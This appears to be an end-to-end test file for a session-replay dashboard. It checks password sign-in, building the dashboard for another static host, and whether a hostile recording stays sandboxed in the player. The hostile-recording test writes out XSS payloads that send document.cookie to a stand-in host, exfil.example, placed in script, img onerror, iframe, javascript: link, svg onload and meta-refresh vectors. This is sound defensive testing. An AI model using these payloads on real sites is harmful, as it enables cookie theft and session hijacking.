// The dashboard by itself: signing in, an untrusted recording, another host.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { PASSWORD, Worker, inReplay, launch, root, signIn, staticHost, until } from './support.mjs';

let worker;
let browser;
before(async () => {
  worker = await Worker.start({ ANNOUNCE_SECONDS: '0.1' });
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await worker?.stop();
});

/** Uploads a recording as a hostile client would make it. */
async function upload(nodes) {
  const start = Date.now();
  const sid = start.toString(16).padStart(12, '0') + 'a'.repeat(26);
  const node = { type: 0, childNodes: [{ type: 2, tagName: 'html', attributes: {}, id: 2, childNodes: [
    { type: 2, tagName: 'head', attributes: {}, childNodes: [], id: 3 },
    { type: 2, tagName: 'body', attributes: {}, id: 4, childNodes: nodes },
  ] }], id: 1 };
  const events = [
    { type: 4, data: { href: 'https://victim.example/', width: 800, height: 600 }, timestamp: start },
    { type: 2, data: { node, initialOffset: { left: 0, top: 0 } }, timestamp: start + 1 },
    { type: 3, data: { source: 2, type: 2, id: 5, x: 10, y: 10 }, timestamp: start + 2_000 },
  ];
  const header = { v: 1, sid, tab: 'b'.repeat(8), window: 'c'.repeat(8), seq: 0, first: 0, n: events.length, sent: start };
  const text = [header, ...events].map((line) => JSON.stringify(line)).join('\n');
  const answer = await fetch(`${worker.url}/i/demo`, { method: 'POST', headers: { origin: worker.url }, body: gzipSync(text) });
  assert.equal(answer.status, 200, await answer.text());
  return sid;
}

test('only the password lets in, and signing in leads to where one wanted to go', async () => {
  const page = await browser.newPage();
  await page.goto(`${worker.url}/dashboard/#/s/demo`);
  await page.getByTestId('login-password').fill('wrong');
  await page.getByTestId('login-submit').click();
  await page.getByRole('alert').waitFor();
  await page.getByTestId('login-password').fill(PASSWORD);
  await page.getByTestId('login-submit').click();
  await page.getByTestId('empty-first-run').waitFor();
  assert.match(await page.getByTestId('empty-first-run').innerText(), /data-site="demo"/);
  await page.reload();
  await page.getByTestId('empty-first-run').waitFor();
  await page.close();
});

test('a hostile recording runs nothing and reaches nothing', async () => {
  const probe = 'fetch("https://exfil.example/" + document.cookie);top.document.title="owned";parent.postMessage("owned","*")';
  const sid = await upload([
    { type: 2, tagName: 'p', attributes: {}, childNodes: [{ type: 3, textContent: 'an innocent page', id: 6 }], id: 5 },
    { type: 2, tagName: 'script', attributes: {}, childNodes: [{ type: 3, textContent: probe, id: 8 }], id: 7 },
    { type: 2, tagName: 'img', attributes: { src: 'https://exfil.example/x.png', onerror: probe }, childNodes: [], id: 9 },
    { type: 2, tagName: 'iframe', attributes: { src: `javascript:${probe}`, srcdoc: `<script>${probe}</script>` }, childNodes: [], id: 10 },
    { type: 2, tagName: 'a', attributes: { href: `javascript:${probe}` }, childNodes: [], id: 11 },
    { type: 2, tagName: 'svg', attributes: { onload: probe }, isSVG: true, childNodes: [], id: 12 },
    { type: 2, tagName: 'meta', attributes: { 'http-equiv': 'refresh', content: '0;url=https://exfil.example/' }, childNodes: [], id: 13 },
  ]);
  const page = await browser.newPage();
  const asked = [];
  page.on('request', (request) => asked.push(request.url()));
  await signIn(page, worker.url);
  await page.locator(`[data-testid=session-row][data-sid="${sid}"]`).click();
  await until('it replays', () => inReplay(page, () => document.body.innerText.includes('innocent')));
  const frame = page.frames().find((candidate) => candidate.url().startsWith('data:'));
  assert.equal(await frame.evaluate(() => self.origin), 'null', 'the player has an origin of its own');
  assert.equal(await frame.evaluate(() => { try { return parent.document.title; } catch { return 'refused'; } }), 'refused');
  assert.equal(await frame.evaluate(() => { try { return document.cookie; } catch { return 'refused'; } }), 'refused');
  assert.notEqual(await page.title(), 'owned');
  assert.ok(page.url().startsWith(worker.url), 'the page stays');
  const sent = asked.filter((url) => url.includes('exfil.example') && !url.endsWith('/x.png'));
  assert.deepEqual(sent, [], 'only the passive image was asked for');
  await page.close();
});

test('the same build works from another static host', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'sentiero-static-'));
  const host = await staticHost(folder);
  const own = await Worker.start({ DASHBOARD_ORIGINS: host.url });
  try {
    execFileSync('cargo', ['xtask', 'build', '--api', own.url, '--out', folder], { cwd: root, stdio: 'pipe' });
    const page = await browser.newPage();
    await page.goto(host.url);
    await page.getByTestId('login-password').fill(PASSWORD);
    await page.getByTestId('login-submit').click();
    await page.getByTestId('empty-first-run').waitFor();
    await page.close();
  } finally {
    host.close();
    await own.stop();
    rmSync(folder, { recursive: true, force: true });
  }
});
